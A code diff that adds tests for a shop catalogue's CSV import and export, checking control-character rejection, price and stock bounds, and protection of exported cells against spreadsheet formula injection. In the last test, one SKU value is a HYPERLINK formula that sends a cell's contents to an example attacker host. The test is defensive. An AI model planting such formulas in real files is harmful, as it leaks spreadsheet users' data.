@@ -4,6 +4,7 @@
 import { eq, inArray } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { catalogueCsvReportSchema } from '../../contract/admin-catalogue.js';
+import { parseCsv } from '../../server/domain/admin-catalogue/csv-parse.js';
 import { articleSchema } from '../../contract/catalogue.js';
 import { articles, staffActions } from '../../server/db/schema.js';
 import { catalogueVersion } from '../../server/domain/catalogue/version.js';
@@ -148,6 +149,58 @@ describe('a file with bad rows', () => {
   });
 });
 
+describe('every cell by the article form\'s rules (decision 219)', () => {
+  it('a NUL or another control character in a code is a row error with its line, in the dry run and the apply', async () => {
+    const [a, b] = [await insertSimpleArticle(api.db), await insertSimpleArticle(api.db)];
+    const csv = `sku,price\n${a.sku}\u0000,10.00\nRG\u00071,10.00\n${b.sku},10.00\n`;
+    const planned = await dryRun(csv);
+    expect(planned.errors.map((e) => [e.line, e.code])).toEqual([[2, 'BAD_SKU'], [3, 'BAD_SKU']]);
+    expect(planned.errors[0]!.message).toContain('Codice articolo non valido');
+    expect(planned.changes.map((c) => c.sku)).toEqual([b.sku]);
+    const refused = catalogueCsvReportSchema.parse((await expectError(await staffCall(api, staff, 'POST', APPLY, csv), 422, 'CSV_INVALID')).payload);
+    expect(refused.errors).toEqual(planned.errors);
+    expect((await rowsOf([a.id, b.id])).map((r) => r.priceGross)).toEqual([2500, 2500]);
+  });
+
+  it('refuses a price or a stock the form refuses, the dry run as the apply, and takes the form\'s highest', async () => {
+    const [a, b, c, d, e, f] = await Promise.all([1, 2, 3, 4, 5, 6].map(() => insertSimpleArticle(api.db)));
+    const csv = [
+      'sku,price,discounted_price,stock',
+      `${a!.sku},21474836.48,,5`,
+      `${b!.sku},5000000.00,,5`,
+      `${c!.sku},25.00,,9999999`,
+      `${d!.sku},1000000.01,999999.99,1000001`,
+      `${e!.sku},25.00,0.00,5`,
+      `${f!.sku},1000000.00,999999.99,1000000`,
+    ].join('\n');
+    const ids = [a!.id, b!.id, c!.id, d!.id, e!.id, f!.id];
+    const before = await rowsOf(ids);
+    const actionsBefore = await csvActions();
+    const planned = await dryRun(csv);
+    expect(planned.errors.map((e) => [e.line, e.code])).toEqual([
+      [2, 'BAD_PRICE'], [3, 'BAD_PRICE'], [4, 'BAD_STOCK'], [5, 'BAD_PRICE'], [5, 'BAD_STOCK'], [6, 'BAD_DISCOUNT'],
+    ]);
+    expect(planned.changes.map((c) => [c.sku, c.after.price, c.after.discountedPrice, c.after.stock])).toEqual([[f!.sku, 100_000_000, 99_999_999, 1_000_000]]);
+    const english = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', `${DRY_RUN}?lang=en`, csv));
+    expect(english.errors[0]!.message).toContain('at most 1000000.00');
+    expect(english.errors[2]!.message).toContain('up to 1000000');
+
+    const refused = catalogueCsvReportSchema.parse((await expectError(await staffCall(api, staff, 'POST', APPLY, csv), 422, 'CSV_INVALID')).payload);
+    expect(refused.errors).toEqual(planned.errors);
+    expect(await rowsOf(ids)).toEqual(before);
+    expect(await csvActions()).toBe(actionsBefore);
+
+    const highest = `sku,price,discounted_price,stock\n${f!.sku},1000000.00,999999.99,1000000\n`;
+    expect(catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, highest))).toMatchObject({ applied: true, errors: [] });
+    const [row] = await rowsOf([f!.id]);
+    expect([row!.priceGross, row!.priceDiscounted, row!.stockQuantity]).toEqual([100_000_000, 99_999_999, 1_000_000]);
+    // The same values through the article form: its bounds are the file's.
+    const price = await expectError(await staffCall(api, staff, 'PATCH', `/v1/admin/articles/${f!.id}`, { price: 100_000_001 }), 400, 'VALIDATION_ERROR');
+    expect(price.message).toContain('price: Prezzo non valido');
+    await expectError(await staffCall(api, staff, 'PATCH', `/v1/admin/articles/${f!.id}`, { stock: 1_000_001 }), 400, 'VALIDATION_ERROR');
+  });
+});
+
 describe('the export', () => {
   it('writes every sellable article with euro prices and reads back as no change; an edited line is the only change', async () => {
     const a = await insertSimpleArticle(api.db, { priceGross: 123_405, priceDiscounted: 99_900, stockQuantity: 3 });
@@ -166,5 +219,26 @@ describe('the export', () => {
     expect(again).toMatchObject({ rows: lines.length - 1, changes: [], unchanged: lines.length - 1, errors: [] });
     const edited = csv.replace(`${a.sku},1234.05,999.00,3,true`, `${a.sku},1234.05,999.00,4,true`);
     expect((await dryRun(edited)).changes.map((c) => [c.sku, c.before.stock, c.after.stock])).toEqual([[a.sku, 3, 4]]);
+  });
+
+  it('puts a quote before a code a spreadsheet would run, and reads the file back as no change (decision 219)', async () => {
+    // Codes stored before the form refused them: the file must not hand them to a spreadsheet as formulas.
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const codes = [hyperlink, '=1+1', '+39 02 1234', '-2+3', '@SUM(A1:A9)'];
+    const made = [];
+    for (const sku of codes) made.push(await insertSimpleArticle(api.db, { sku }));
+    const csv = await exported();
+    const lines = csv.trimEnd().split('\r\n');
+    expect(lines).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,5,true');
+    for (const sku of codes.slice(1)) expect(lines).toContain(`"'${sku}",25.00,,5,true`);
+    const parsed = parseCsv(csv);
+    expect(parsed.ok).toBe(true);
+    for (const field of parsed.records.flatMap((r) => r.fields)) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+
+    expect(await dryRun(csv)).toMatchObject({ changes: [], errors: [], unchanged: lines.length - 1 });
+    const edited = csv.replace('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,5,true', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,6,true');
+    const applied = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, edited));
+    expect(applied.changes.map((c) => [c.id, c.sku, c.after.stock])).toEqual([[made[0]!.id, hyperlink, 6]]);
+    expect((await rowsOf([made[0]!.id]))[0]!.stockQuantity).toBe(6);
   });
 });
